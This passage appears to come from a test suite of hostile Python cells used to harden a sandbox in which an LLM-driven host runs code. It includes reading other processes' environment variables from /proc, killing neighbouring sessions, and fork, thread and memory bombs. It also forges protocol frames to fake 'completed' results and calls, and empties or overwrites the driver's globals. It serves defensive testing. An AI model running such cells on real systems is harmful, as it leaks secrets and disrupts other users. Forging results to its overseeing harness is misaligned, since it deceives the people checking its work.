    for name in ("environ", "cmdline"):
        try:
            print(open("/proc/%d/%s" % (pid, name)).read().replace("\0", "\n"))
        except OSError:
            pass

#: F20 | another session's process is ended | neighbour
import os, time
for pid in reversed(NEIGHBOURS):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
time.sleep(0.5)

#: F21 | the host's addresses from its network | host
import array, fcntl, socket, struct
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for _, name in socket.if_nameindex():
        try:
            print(socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", name.encode()))[20:24]))
        except OSError:
            pass

#: F22 | the host's addresses from /proc | host
print(open("/proc/net/fib_trie").read())


# ---- G. Resources ----

#: G01 | a loop without end | bounds
while True:
    pass

#: G02 | a loop without end in C | bounds
import itertools
sum(itertools.count())

#: G03 | a number without end | bounds | spoils
10 ** 10 ** 8

#: G04 | a long string | bounds
"x" * 10 ** 10

#: G05 | a long list | bounds
[0] * 10 ** 10

#: G06 | a growing list | bounds | spoils
rows = []
while True:
    rows.append(bytearray(10_000_000))

#: G07 | a growing string | bounds | spoils
text = "x" * 1000
while True:
    text += text

#: G08 | much compressed | bounds | spoils
import zlib
packed = zlib.compress(bytes(10_000_000))
unpacked = []
while True:
    unpacked.append(zlib.decompress(packed))

#: G09 | memory of child processes | bounds | spoils
import os, time
for i in range(64):
    if os.fork() == 0:
        try:
            kept = [bytearray(os.urandom(1 << 20) * 64) for j in range(64)]
            time.sleep(30)
        finally:
            os._exit(0)
time.sleep(30)

#: G10 | deep recursion | bounds | spoils
def deeper(n):
    return deeper(n + 1) + 1
deeper(0)

#: G11 | deep recursion past the limit | bounds | spoils
import sys
sys.setrecursionlimit(10 ** 9)
def deeper(n):
    return deeper(n + 1) + 1
deeper(0)

#: G12 | deep recursion in a thread | bounds | spoils
import sys, threading
sys.setrecursionlimit(10 ** 9)
def deeper(n):
    return deeper(n + 1) + 1
thread = threading.Thread(target=deeper, args=(0,), daemon=True)
thread.start()
thread.join()

#: G13 | deeply nested code | bounds
eval("(" * 100_000 + ")" * 100_000)

#: G14 | a regular expression that backtracks | bounds
import re
re.match("(a+)+$", "a" * 40 + "b")

#: G15 | a fork bomb | bounds | spoils
import os, time
for i in range(5000):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)

#: G16 | children that make children | bounds | spoils
import os, time
for i in range(12):
    os.fork()
time.sleep(30)

#: G17 | a thread bomb | bounds | spoils
import threading, time
for i in range(100_000):
    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()

#: G18 | a bomb of file descriptors | bounds | spoils
import os
kept = [os.pipe() for i in range(1_000_000)]

#: G19 | its temporary folder is filled | bounds | spoils
import tempfile
kept = []
for i in range(200):
    kept.append(tempfile.TemporaryFile())
    for j in range(64):
        kept[-1].write(bytes(1 << 20))

#: G20 | many small files | bounds | spoils
import os, tempfile
folder = tempfile.mkdtemp()
for i in range(10_000_000):
    os.close(os.open("%s/%d" % (folder, i), os.O_CREAT | os.O_WRONLY))

#: G21 | printing without end | bounds
while True:
    print("flood " * 1000)

#: G22 | printing on descriptor 1 without end | bounds
import os
while True:
    os.write(1, b"flood " * 10_000)

#: G23 | a huge last expression | bounds
"x" * 200_000_000

#: G24 | signal.alarm | bounds | spoils
import signal, time
signal.alarm(1)
time.sleep(30)

#: G25 | SIGINT is ignored | bounds | spoils
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass

#: G26 | all exceptions are swallowed | bounds
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

#: G27 | all exceptions are swallowed in a thread that is waited for | bounds | spoils
import threading
def work():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
thread = threading.Thread(target=work)
thread.start()
thread.join()

#: G28 | an exit handler that never ends | bounds | spoils
import atexit, sys
def stay():
    while True:
        pass
atexit.register(stay)
sys.exit()

#: G29 | os._exit(0) | bounds
import os
os._exit(0)

#: G30 | sys.exit() | bounds
import sys
sys.exit()

#: G31 | raise SystemExit | bounds
raise SystemExit

#: G32 | its own process is killed | bounds
import os
os.kill(os.getpid(), 9)

#: G33 | its own process is stopped | bounds | spoils
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)

#: G34 | sleeping without end | bounds
import time
time.sleep(10 ** 6)

#: G35 | waiting for a lock that nobody gives back | bounds
import threading
lock = threading.Lock()
lock.acquire()
lock.acquire()

#: G36 | memory that no process has: semaphores and messages of System V | bounds | spoils
import ctypes, os
libc = ctypes.CDLL(None)
for i in range(32_000):
    if libc.semget(0, 32_000, 0o1600) < 0:
        break
for i in range(32_000):
    queue = libc.msgget(0, 0o1600)
    if queue < 0 or libc.msgsnd(queue, ctypes.create_string_buffer(b"\1\0\0\0\0\0\0\0", 8008), 8000, 0o4000):
        break

#: G37 | memory that no process has: files without a name | bounds | spoils
import os
kept = []
while True:
    kept.append(os.memfd_create("kept"))
    for i in range(64):
        os.write(kept[-1], bytes(1 << 20))

#: G38 | processes that would run before all others | bounds | spoils
import os
os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
while True:
    pass


# ---- H. Speaking the protocol ----

#: H01 | what looks like a frame is printed | believed
print("D\0\0\0\2\0\0\0\2{}", flush=True)
print("S\0\0\0\2\0\0\0\0")

#: H02 | what looks like a frame is written to descriptors 1 and 2 | believed
import os
for fd in (1, 2):
    os.write(fd, b"D\0\0\0\2\0\0\0\2{}")

#: H03 | the end of this cell is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL, b'{"end": "completed", "value": "forged"}')

#: H04 | the end of the next cell is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL + 1, b'{"end": "completed", "value": "forged"}')

#: H05 | a stop that nobody asked for is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL, b'{"end": "stopped"}')

#: H06 | a report with figures of its own is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL, b'{"end": "completed", "restored": 5, "answer": [], "variables": {"a": 1}, "metrics": {"cpu": -1, "wall": -1}}')

#: H07 | a report nested without end is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL, b'{"end": ' + b"[" * 100_000)

#: H08 | a report that is no JSON is forged | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"D", CELL, b"\xff\xfe\0")

#: H09 | the beginning of the cell is told again | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"S", CELL)

#: H10 | the greeting is sent again | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"H", 0, b"\x1b[2Jforged")

#: H11 | readiness is told again | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"R", 0)

#: H12 | a value that nobody asked for | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"V", -1, b'{"found": true, "text": "forged"}')

#: H13 | frames that only the host may send | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"c", CELL + 1, b"print(1)")

#: H14 | a frame of an unknown kind | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"?", 0)

#: H15 | a frame that claims to be huge | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
for fd in range(3, 256):
    try:
        os.write(fd, b"O" + struct.pack(">ii", 1, 2 ** 31 - 1))
    except OSError:
        pass

#: H16 | a frame of negative length | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
for fd in range(3, 256):
    try:
        os.write(fd, b"O" + struct.pack(">ii", 1, -5))
    except OSError:
        pass

#: H17 | a call that claims 2 GB of arguments | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
for fd in range(3, 256):
    try:
        os.write(fd, b"M" + struct.pack(">ii", 7, 2 ** 31 - 1))
    except OSError:
        pass

#: H18 | half a frame, and the end | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
for fd in range(3, 256):
    try:
        os.write(fd, b"D" + struct.pack(">ii", CELL, 1000) + b"{")
    except OSError:
        pass
os._exit(0)

#: H19 | a count of printed characters that cannot be | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"T", 1, struct.pack(">q", 2 ** 63 - 1) + b"x")
send(b"T", 1, struct.pack(">q", -1) + b"x")

#: H20 | text for a stream that does not exist | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"O", 77, b"x")

#: H21 | a forged call stops the clock, and a loop begins | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"M", 1000, b'{"function": "llm_query", "arguments": {}}')
while True:
    pass

#: H22 | forged calls without end keep the clock | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
number = 1000
while True:
    number += 1
    send(b"N", number, b'{"function": "llm_query", "arguments": {}}')

#: H23 | a forged call that is no call | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
send(b"M", 1000, b'["no", "call"]')

#: H24 | a forged call twice under one number | believed
import os, struct
def send(kind, number, body=b""):
    for fd in range(3, 256):
        try:
            os.write(fd, kind + struct.pack(">ii", number, len(body)) + body)
        except OSError:
            pass
for i in range(2):
    send(b"N", 1000, b'{"function": "llm_query", "arguments": {}}')

#: H25 | calls without end | believed
while True:
    llm_query("again")

#: H26 | calls of many threads at once | believed | spoils
import threading
threads = [threading.Thread(target=llm_query, args=("again",), daemon=True) for i in range(300)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join(5)

#: H27 | a call from a thread that outlives its cell | believed
import threading, time
def later():
    time.sleep(0.2)
    llm_query("late")
threading.Thread(target=later, daemon=True).start()

#: H28 | a call's arguments are 40 MB | believed
llm_query("x" * 40_000_000)

#: H29 | the host's next frame is read | believed | spoils
import os, threading
def take(fd):
    try:
        while os.read(fd, 65536):
            pass
    except OSError:
        pass
for fd in (0, *range(3, 256)):
    threading.Thread(target=take, args=(fd,), daemon=True).start()

#: H30 | the frames' descriptors are closed | believed
import os
os.closerange(3, 256)

#: H31 | the frames' descriptors lead elsewhere | believed
import os
nowhere = os.open("/dev/null", os.O_RDWR)
for fd in range(3, 256):
    if fd != nowhere:
        try:
            os.fstat(fd)
            os.dup2(nowhere, fd)
        except OSError:
            pass

#: H32 | the frames' descriptors do not wait any more | believed | spoils
import os
for fd in range(3, 256):
    try:
        os.set_blocking(fd, False)
    except OSError:
        pass
print("x" * 3_000_000)

#: H33 | descriptors 0, 1 and 2 are closed | believed | spoils
import os
os.close(0)
os.close(1)
os.close(2)

#: H34 | descriptors 0, 1 and 2 lead elsewhere | believed | spoils
import os
nowhere = os.open("/dev/null", os.O_RDWR)
for fd in range(3):
    os.dup2(nowhere, fd)

#: H35 | sys.stdin, stdout and stderr are closed | believed
import sys
for stream in (sys.stdin, sys.stdout, sys.stderr, sys.__stdin__, sys.__stdout__, sys.__stderr__):
    stream.close()

#: H36 | sys.stdout and sys.stderr are replaced | believed
import io, sys
sys.stdout = sys.__stdout__ = io.StringIO()
sys.stderr = sys.__stderr__ = None

#: H37 | llm_query, answer, budget and context are replaced | believed
llm_query = rlm_query = budget = FINAL = SHOW_VARS = print
answer = context = sources = object()

#: H38 | the driver's globals are replaced | believed
found = llm_query.__globals__
for name in list(found):
    if not name.startswith("__"):
        found[name] = lambda *args, **more: 1 / 0

#: H39 | the driver's globals are emptied | believed
llm_query.__globals__.clear()

#: H40 | every driver frame's globals are emptied | believed
import sys
frame = sys._getframe().f_back
while frame is not None:
    above = frame.f_back
    frame.f_globals.clear()
    frame = above

#: H41 | the driver is entered again from a thread | believed | spoils
import threading
guest = llm_query.__closure__[0].cell_contents.__self__
thread = threading.Thread(target=lambda: guest.run(CELL + 1, "while True: pass"), daemon=True)
thread.start()
print(guest.run(CELL, "1"))

#: H42 | NUL, lone surrogates and emoji are printed | believed
print("\0 \ud800 \U0001f600 \u202e \x1b]0;title\x07")

#: H43 | invalid UTF-8 is written | believed
import os, sys
os.write(1, b"\xff\xfe\xc0\x80\xed\xa0\x80")
sys.stdout.buffer.write(b"\xff\xfe\xc0")

#: H44 | lone surrogates in names, values and the answer | believed
globals()["n\ud800"] = 1
answer["content"] = "\ud800" * 100
"\udfff"

#: H45 | output of 100 MB | believed
print("x" * 100_000_000)

#: H46 | an answer of 100 MB | believed | spoils
answer["content"] = "x" * 100_000_000

#: H47 | a traceback of 100 MB | believed
raise ValueError("x" * 100_000_000)

#: H48 | names and types that are long or hostile | believed | spoils
globals()["x" * 1_000_000] = 1
for i in range(5000):
    globals()["v%d" % i] = type("t" * 10_000, (), {})()

#: H49 | an exception that breaks whoever shows it | believed
raise type("E", (BaseException,), {"__str__": lambda s: 1 / 0, "__cause__": property(lambda s: 1 / 0)})()

#: H50 | a value that breaks whoever shows it | believed
class V:
    def __repr__(self):
        raise SystemExit(7)
V()

#: H51 | an answer that breaks whoever reads it | believed | spoils
class D(dict):
    __class__ = property(lambda s: 1 / 0)
    def get(self, *args):
        raise KeyboardInterrupt
answer = D(ready=True)

#: H52 | sys.modules and builtins are emptied | believed
import builtins, sys
sys.modules.clear()
builtins.__dict__.clear()

#: H53 | a report of so many parts that the host's memory goes | believed
import os, struct
def send(kind, number, body=b""):
    data = kind + struct.pack(">ii", number, len(body)) + body
    for fd in range(3, 256):
        try:
            rest = data
            while rest:
                rest = rest[os.write(fd, rest):]
        except OSError:
            pass
send(b"D", CELL, b'{"x": [' + b"[0]," * 16_000_000 + b"0]}")

#: H54 | a call of so many parts that the host's memory goes | believed
import os, struct
def send(kind, number, body=b""):
    data = kind + struct.pack(">ii", number, len(body)) + body
    for fd in range(3, 256):
        try:
            rest = data
            while rest:
                rest = rest[os.write(fd, rest):]
        except OSError:
            pass
for number in range(1000, 1003):
    send(b"N", number, b'{"function": "llm_query", "arguments": {"x": [' + b"[0]," * 8_000_000 + b"0]}}")


# ---- I. Afterwards: looked at by the runner, without code ----

#: I01 | a new session starts and runs a cell | believed

#: I02 | no process, temporary folder or control group is left | left
